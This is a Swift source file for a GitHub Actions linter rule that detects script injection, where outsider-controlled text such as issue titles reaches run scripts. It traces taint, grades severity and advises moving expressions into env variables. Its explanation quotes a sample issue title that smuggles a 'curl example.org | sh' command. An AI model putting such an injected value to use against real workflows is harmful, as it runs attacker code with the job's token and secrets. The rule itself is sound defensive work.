import MoatExpressions
package import MoatFindings
import MoatModel

/// Expressions in code whose text somebody else chooses.
package struct TemplateInjection: WorkflowRule {
  package static let info = RuleInfo(
    id: "template-injection", group: .workflows, severity: .high, evidence: [.workflows],
    fix: .unsafe, summary: "an expression that puts somebody's text into code",
    explanation: Explanation(
      whatItDoes: """
        Finds expressions in `run` scripts, and in inputs of actions that run them as code, such \
        as `script` of `actions/github-script`, whose text somebody else chooses: titles, texts \
        and branches of pull requests and issues, messages of commits, inputs. They are followed \
        through `env`, inputs and outputs. High where a stranger can start a run that has secrets \
        or a token that writes; medium for runs without, for merged commits and for what callers \
        pass; low where only people who may write to the repository choose the text; undetermined \
        where more than a thousand values lead to each other.
        """,
      whyItMatters: """
        GitHub puts the text into the script before the shell reads it, quotes or not. A title \
        like `"; curl example.org | sh; "` is then a command, and runs with the job's token and \
        secrets.
        """,
      whatToDo: """
        Put the expression into `env` of the step and use the variable in the script, in quotes: \
        `env: {TITLE: ${{ github.event.issue.title }}}` and `"$TITLE"`. In `github-script`, read \
        `context.payload` or `process.env`.
        """,
      example: """
        ```text
        error[template-injection]: anybody can put commands into this script through the title of an issue
          --> .github/workflows/triage.yml:8:20
           = help: put the expression into `env` of the step and use the variable
        ```
        """),
    references: [
      "https://docs.github.com/en/actions/concepts/security/script-injections"
    ])

  package init() {}

  package func findings(in facts: WorkflowFacts) -> [Finding] {
    let search = TaintSearch(facts)
    return facts.files.flatMap { file in
      let found = file.stepLists.flatMap { list in
        list.steps.flatMap { findings(at: $0, in: list, search) }
      }
      return found.filter { $0.severity > .low }
        + grouped(found.filter { $0.severity == .low }, file)
    }
  }

  /// What only people who may write can use, as one finding a file.
  private func grouped(_ findings: [Finding], _ file: WorkflowFile) -> [Finding] {
    guard let first = findings.first, findings.count > 1 else { return findings }
    return [
      Finding(
        Self.info,
        "people who may write can put commands into scripts through \(findings.count) expressions",
        at: first.primary, severity: .low,
        related: findings.dropFirst().map { file.label($0.primary.span, "and here") },
        help: first.help)
    ]
  }

  private func findings(
    at step: Step, in list: StepList, _ search: TaintSearch
  ) -> [Finding] {
    ScriptInputs.code(of: step).flatMap { text in
      text.expressions.compactMap { expression in
        guard let node = expression.node,
          let taint = search.taint(of: node, at: step, in: list), taint.control > .nobody
        else { return nil }
        return finding(taint, text, expression, list)
      }
    }
  }

  private func finding(
    _ taint: Taint, _ text: WorkflowText, _ expression: ExpressionTemplate.Expression,
    _ list: StepList
  ) -> Finding {
    let label = list.label(text.span(ofDecoded: expression.span))
    if taint.control == .unknown {
      return .undetermined(
        Self.info, "who chooses what is put into this script is not known", at: label,
        because: "it is made of \(taint.what)",
        help: "put the expression into `env` of the step and use the variable")
    }
    let severity: Severity
    let who: String
    switch taint.control {
    case .stranger:
      severity = taint.isPrivileged && !taint.isDerived ? .high : .medium
      who = "anybody"
    case .merged: (severity, who) = (.medium, "whoever has a commit merged")
    case .caller: (severity, who) = (.medium, "callers")
    case .writer, .unknown, .nobody: (severity, who) = (.low, "people who may write")
    }
    return Finding(
      Self.info, "\(who) can put commands into this script through \(taint.what)",
      at: label, severity: severity,
      help: "put the expression into `env` of the step and use the variable")
  }
}
